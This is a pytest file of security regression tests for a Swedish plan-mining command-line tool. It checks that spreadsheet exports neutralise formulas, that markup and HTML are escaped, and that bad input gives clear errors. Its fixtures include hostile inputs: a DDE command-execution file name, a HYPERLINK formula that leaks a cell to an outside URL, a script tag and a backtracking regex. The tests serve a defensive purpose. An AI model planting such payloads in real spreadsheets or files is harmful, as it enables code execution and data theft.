"""Regression tests of issue 16 at the command line: formula injection, rich markup, clear messages
instead of tracebacks, bounded user input, Ctrl-C, and no network use by the embedding runtime."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from planmine.cli import app
from planmine.compare_export import _safe_text as spreadsheet_text

ROOT = Path(__file__).resolve().parent.parent
runner = CliRunner()

PLAN = (
    "Region Värmland och länets kommuner arbetar med fallprevention för äldre. Vi ska införa fallprevention "
    "i hemtjänsten och följa upp fallolyckor bland äldre varje år.\n\n"
    '=HYPERLINK("http://x/?d="&B2,"klicka") fallprevention och förebyggande av fall hos äldre.\n\n'
    "Texten [/fel] och [link=http://x.example]klick[/link] <script>alert(1)</script> om fallprevention."
)


@pytest.fixture(scope="module")
def small_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "=cmd|' -C calc'!A0.txt").write_text(PLAN, encoding="utf-8")
    store = folder.parent / "hostile.db"
    result = runner.invoke(app, ["ingest", str(folder), "--store", str(store), "--no-embed"])
    assert result.exit_code == 0, result.output
    return store


# --- 1: formula injection -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_spreadsheet_text_neutralises_formula_starts(value: str) -> None:
    assert spreadsheet_text(value) == "'" + value
    assert spreadsheet_text("fallprevention = bra") == "fallprevention = bra"


def test_comparison_xlsx_and_csv_hold_no_formulas(small_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    args = ["compare", "fallprevention", "--no-model", "--types", "all", "--store", str(small_store)]
    result = runner.invoke(app, [*args, "-f", "xlsx", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    from openpyxl import load_workbook

    evidence = load_workbook(out)["evidence"]
    values = [str(c.value) for row in evidence.iter_rows(min_row=2) for c in row if c.value is not None]
    assert any(v.startswith("'=cmd") for v in values), values[:12]
    assert not any(v.startswith(("=", "+", "@")) for v in values)
    csv_out = runner.invoke(app, [*args, "-f", "csv"]).output
    cells = [cell for row in csv.reader(io.StringIO(csv_out)) for cell in row]
    assert any(cell.startswith("'=cmd") for cell in cells), cells[:20]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_markdown_export_escapes_html(small_store: Path) -> None:
    result = runner.invoke(
        app, ["compare", "fallprevention", "--no-model", "-f", "md", "--store", str(small_store)]
    )
    assert result.exit_code == 0, result.output
    assert "<script>" not in result.output


# --- 7: rich markup is printed, not interpreted ----------------------------------------------------------


def test_markup_in_documents_and_questions_is_printed_as_text(small_store: Path) -> None:
    tags = runner.invoke(app, ["tags", "--store", str(small_store)])
    assert tags.exit_code == 0, tags.output
    query = runner.invoke(app, ["query", "[/fel] fallprevention", "--no-model", "--store", str(small_store)])
    assert query.exit_code == 0, query.output
    assert "[/fel]" in query.output
    assert "MarkupError" not in query.output + tags.output


# --- 8 and 10: clear messages, checked before the work ------------------------------------------------------


@pytest.mark.parametrize(("option", "value"), [("--max-mb", "nan"), ("--max-mb", "-1"), ("--timeout", "-5")])
def test_bad_limits_are_usage_errors(tmp_path: Path, option: str, value: str) -> None:
    (tmp_path / "a.txt").write_text(PLAN, encoding="utf-8")
    result = runner.invoke(
        app, ["ingest", str(tmp_path / "a.txt"), "--store", str(tmp_path / "s.db"), option, value]
    )
    assert result.exit_code == 2, result.output
    assert "must be" in result.output and "Traceback" not in result.output


def test_output_that_is_a_folder_fails_before_the_analysis(small_store: Path, tmp_path: Path) -> None:
    started = time.perf_counter()
    result = runner.invoke(
        app, ["compare", "--no-model", "-f", "csv", "-o", str(tmp_path), "--store", str(small_store)]
    )
    assert result.exit_code == 2 and "is a folder" in result.output
    result = runner.invoke(app, ["report", "-o", str(tmp_path), "--store", str(small_store)])
    assert result.exit_code == 2 and "is a folder" in result.output
    assert time.perf_counter() - started < 10


def test_a_themes_file_that_is_not_utf8_is_a_clear_error(small_store: Path, tmp_path: Path) -> None:
    themes = tmp_path / "themes.yaml"
    themes.write_bytes("- id: fall\n  label_sv: Fallförebyggande\n".encode("latin-1"))
    result = runner.invoke(
        app, ["compare", "--no-model", "--themes", str(themes), "--store", str(small_store)]
    )
    assert result.exit_code == 2, result.output
    assert "not UTF-8" in result.output and "UnicodeDecodeError" not in result.output


def test_a_negative_pattern_that_can_backtrack_is_refused(small_store: Path, tmp_path: Path) -> None:
    themes = tmp_path / "themes.yaml"
    themes.write_text(
        "themes:\n  - id: fallprevention\n    label_sv: Fall\n    label_en: Falls\n    definition: Fall.\n"
        "    negative: ['(a+)+$']\n",
        encoding="utf-8",
    )
    started = time.perf_counter()
    result = runner.invoke(
        app, ["compare", "--no-model", "--themes", str(themes), "--store", str(small_store)]
    )
    assert time.perf_counter() - started < 20
    assert result.exit_code == 2, result.output
    assert "exponential" in result.output


@pytest.mark.parametrize("question", ["", "   ", "'); DROP TABLE documents;--"[:2] + "?!", "x" * 100_000])
def test_empty_punctuation_and_huge_questions_are_usage_errors(small_store: Path, question: str) -> None:
    started = time.perf_counter()
    result = runner.invoke(app, ["query", question, "--no-model", "--store", str(small_store)])
    assert result.exit_code == 2, result.output
    assert time.perf_counter() - started < 5


def test_gaps_for_a_region_without_documents_says_so(small_store: Path) -> None:
    result = runner.invoke(
        app, ["gaps", "--region", "Region Halland", "--no-model", "--store", str(small_store)]
    )
    assert result.exit_code == 2
    assert "No documents of Region Halland" in result.output and "Unknown region" not in result.output


def test_foreign_sqlite_and_a_store_under_a_file_are_messages(tmp_path: Path) -> None:
    foreign = tmp_path / "photos.db"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE meta (k TEXT)")
    before = foreign.read_bytes()
    for command in (["docs"], ["report", "-o", str(tmp_path / "r.html")]):
        result = runner.invoke(app, [*command, "--store", str(foreign)])
        assert result.exit_code == 1 and "another program" in result.output, result.output
    assert foreign.read_bytes() == before
    (tmp_path / "a.txt").write_text(PLAN, encoding="utf-8")
    result = runner.invoke(
        app, ["ingest", str(tmp_path / "a.txt"), "--store", str(tmp_path / "a.txt" / "s.db")]
    )
    assert result.exit_code == 1 and "folder cannot be made" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_ctrl_c_says_what_was_stored(tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    for i in range(30):
        body = "\n\n".join(f"{j}. {PLAN}" for j in range(20 * (i + 1)))
        (folder / f"{i:02d}.txt").write_text(f"Dokument {i}.\n\n{body}", encoding="utf-8")
    store = tmp_path / "s.db"
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    proc = subprocess.Popen(
        [sys.executable, "-m", "planmine", "ingest", str(folder), "--store", str(store), "--no-embed"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # A shell that starts the suite in the background ignores SIGINT and a child inherits that (Python then
        # never raises KeyboardInterrupt): give the child the default disposition, as a terminal's Ctrl-C meets.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    assert proc.stderr is not None
    first = proc.stderr.readline()  # the first file is stored (per-file lines go to stderr)
    assert first.startswith("ok"), first
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, (out, err)
    assert re.search(r"interrupted: \d+ of 30 files done \(\d+ stored", err), err
    assert "30 files: 30 ok" not in out
    assert "Traceback" not in err
    with sqlite3.connect(store) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert conn.execute("SELECT COUNT(*) FROM documents").fetchone()[0] >= 1


# --- 9: no network use ----------------------------------------------------------------------------------------

PROBE = """
import time, numpy as np
from planmine.embed.onnx_backend import OnnxTokenEmbeddings
model = OnnxTokenEmbeddings(__import__("pathlib").Path({path!r}))
ids = np.array([[0, 6, 7, 2]]); mask = np.ones_like(ids)
model(ids, mask); time.sleep(6); model(ids, mask)
print("embedded")
"""


def test_the_onnx_runtime_opens_no_network_socket(tmp_path: Path) -> None:
    strace = shutil.which("strace")
    models = Path(os.environ.get("PLANMINE_MODELS", ROOT / "models"))
    onnx = next(models.glob("*/onnx/model.onnx"), None)
    if strace is None or onnx is None:
        pytest.skip("needs strace and an installed ONNX model")
    log = tmp_path / "trace.txt"
    env = {k: v for k, v in os.environ.items() if k != "ORT_DISABLE_TELEMETRY"}
    env["PYTHONPATH"] = str(ROOT / "src")
    done = subprocess.run(
        [
            strace,
            "-f",
            "-e",
            "trace=network",
            "-o",
            str(log),
            sys.executable,
            "-c",
            PROBE.format(path=str(onnx)),
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    if "ptrace" in done.stderr and "Operation not permitted" in done.stderr:
        pytest.skip("strace is not permitted here")
    assert "embedded" in done.stdout, done.stderr
    calls = [line for line in log.read_text().splitlines() if re.search(r"AF_INET6?|sendto|connect\(", line)]
    assert calls == []
